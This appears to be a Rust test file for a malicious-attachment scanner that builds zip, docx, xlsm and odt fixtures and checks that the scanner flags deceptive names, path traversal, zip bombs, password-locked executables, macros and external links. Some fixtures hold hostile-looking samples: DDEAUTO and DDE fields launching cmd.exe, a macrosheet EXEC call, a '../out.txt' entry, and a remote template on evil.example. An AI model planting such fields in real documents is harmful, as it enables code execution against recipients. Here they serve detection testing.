use std::io::{Cursor, Write as _};

use zip::write::SimpleFileOptions;
use zip::{AesMode, ZipWriter};

use super::super::tests::{looked, looked_with};
use crate::report::{FILES_MAX, Kind, Place, Reason, Report, Trait};

fn zip_as(options: SimpleFileOptions, entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in entries {
        writer.start_file(*name, options).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_as(SimpleFileOptions::default(), entries)
}

fn evidence(report: &Report, what: Trait) -> Option<&str> {
    report.signs.iter().find(|sign| sign.what == what).map(|sign| sign.evidence.as_str())
}

#[test]
fn what_is_in_an_archive_in_an_archive() {
    let inner = zip(&[("scan\u{202e}fdp.exe", b"MZ\x01"), ("../out.txt", b"x"), ("list.pdf", b"MZ\x01")]);
    let report = looked("a.zip", &zip(&[("inner.zip", &inner), ("note.txt", b"see inside")]));
    let kinds: Vec<_> = report.files.iter().map(|file| (file.kind, file.depth)).collect();
    assert_eq!(
        kinds,
        [(Kind::Zip, 0), (Kind::Zip, 1), (Kind::Program, 2), (Kind::Text, 2), (Kind::Program, 2), (Kind::Text, 1)]
    );
    assert!(report.files[2].has_deceptive_name);
    assert_eq!(evidence(&report, Trait::EscapingName), Some("../out.txt"));
    assert_eq!(evidence(&report, Trait::OtherThanNamed), Some("list.pdf"));
    assert_eq!(report.unlooked, []);
}

#[test]
fn a_locked_archive_opens_with_a_word_of_the_message() {
    let aes = SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "rabbit7");
    let locked = zip_as(aes, &[("bill.exe", b"MZ\x01")]);
    let report = looked_with("a.zip", &locked, &["please", "Rabbit7"]);
    assert!(report.files[0].is_locked && report.files[1].is_locked && report.files[1].kind == Kind::Program);
    let report = looked_with("a.zip", &locked, &["please", "rabbit7"]);
    assert_eq!(evidence(&report, Trait::NamedPassword), Some("rabbit7"));
    assert!(!report.files[0].is_locked && report.files[1].kind == Kind::Program);
}

#[test]
fn bombs_by_ratio_by_count_and_by_depth() {
    let zeros = vec![0; 40 << 20];
    assert!(looked("a.zip", &zip(&[("zeros", &zeros)])).shows(Trait::Bomb));
    // Each file stays below its limits, all together do not.
    let small = vec![0; 7 << 20];
    let names: Vec<String> = (0..40).map(|number| format!("{number}.bin")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), small.as_slice())).collect();
    let report = looked("a.zip", &zip(&entries));
    assert!(report.shows(Trait::Bomb), "{:?}", report.unlooked.first());
    let names: Vec<String> = (0..2000).map(|number| format!("{number}.txt")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), b"x".as_slice())).collect();
    let report = looked("a.zip", &zip(&entries));
    assert!(report.files.len() <= FILES_MAX && report.unlooked.iter().any(|unlooked| unlooked.why == Reason::TooMany));
    let mut nest = zip(&[("a.txt", b"x")]);
    for depth in 0..12 {
        nest = zip(&[(&format!("{depth}.zip"), &nest)]);
    }
    let report = looked("a.zip", &nest);
    assert!(report.unlooked.iter().any(|unlooked| unlooked.why == Reason::TooDeep));
}

#[test]
fn a_picture_of_honest_zeros_is_no_bomb() {
    let zeros = vec![0; 6 << 20];
    let report = looked("a.zip", &zip(&[("blank.bmp", &zeros)]));
    assert!(!report.shows(Trait::Bomb), "{report:?}");
}

#[test]
fn programs_that_are_archives() {
    assert_eq!(looked("a.jar", &zip(&[("META-INF/MANIFEST.MF", b"x"), ("A.class", b"y")])).kind(), Kind::Program);
    assert_eq!(looked("a.apk", &zip(&[("AndroidManifest.xml", b"x")])).kind(), Kind::Program);
}

#[test]
fn documents_with_macros_links_and_text() {
    let relations = br#"<Relationships><Relationship Id="1" Type="http://x/relationships/hyperlink" Target="https://evil.example/a?b=1&amp;c" TargetMode="External"/>
        <Relationship Id="2" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let text = br#"<w:document><w:p><w:r><w:t>Your acc</w:t></w:r><w:r><w:t>ount</w:t><w:br/></w:r></w:p>
        <w:p><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r></w:p></w:document>"#;
    let report = looked(
        "a.docx",
        &zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", text),
            ("word/_rels/document.xml.rels", relations),
            ("word/vbaProject.bin", b"stub"),
        ]),
    );
    assert_eq!(report.kind(), Kind::Office);
    assert!(report.shows(Trait::Macros));
    assert_eq!(evidence(&report, Trait::ExternalContent), Some("http://evil.example/t.dotm"));
    assert!(evidence(&report, Trait::DataExchange).is_some_and(|found| found.starts_with("DDEAUTO")));
    assert_eq!(
        (report.links[0].url.as_str(), report.links[0].place),
        ("https://evil.example/a?b=1&c", Place::Document)
    );
    assert_eq!(report.texts[0].text, "Your account");
}

#[test]
fn an_honest_document_shows_nothing() {
    let report = looked(
        "offer.xlsx",
        &zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/sharedStrings.xml", b"<sst><si><t>Ball valve</t></si><si><t>DN50</t></si></sst>"),
            (
                "xl/_rels/workbook.xml.rels",
                b"<Relationships><Relationship Type='x/worksheet' Target='worksheets/sheet1.xml'/></Relationships>",
            ),
        ]),
    );
    assert!(report.signs.is_empty() && report.links.is_empty() && report.unlooked.is_empty());
    assert_eq!(report.texts[0].text, "Ball valve\nDN50");
}

#[test]
fn other_documents_reach_out_too() {
    let report = looked(
        "a.xlsm",
        &zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet><f>EXEC(\"calc\")</f></xm:macrosheet>"),
            (
                "xl/externalLinks/externalLink1.xml",
                b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
            ),
            ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ]),
    );
    assert!(report.shows(Trait::MacroSheet) && report.shows(Trait::EmbeddedObject));
    assert_eq!(evidence(&report, Trait::DataExchange), Some("cmd"));
    let report = looked(
        "a.odt",
        &zip(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                b"<text:p>Hello<text:line-break/> you <text:a xlink:href='https://a.example/'>here</text:a></text:p>",
            ),
            ("Basic/Standard/Module1.xml", b"x"),
        ]),
    );
    assert!(report.shows(Trait::Macros));
    assert_eq!(
        (report.texts[0].text.as_str(), report.links[0].url.as_str()),
        ("Hello\n you here", "https://a.example/")
    );
}

#[test]
fn broken_archives_end() {
    let whole =
        zip(&[("word/document.xml", b"<w:t>x</w:t>"), ("[Content_Types].xml", b""), ("a.zip", &zip(&[("b", b"c")]))]);
    for end in 0..whole.len() {
        let _ = looked("a.zip", &whole[..end]);
    }
    for place in 0..whole.len() {
        let mut broken = whole.clone();
        broken[place] ^= 0xff;
        let _ = looked("a.zip", &broken);
    }
    assert_eq!(looked("a.zip", &whole[..40]).unlooked[0].why, Reason::Damaged);
}
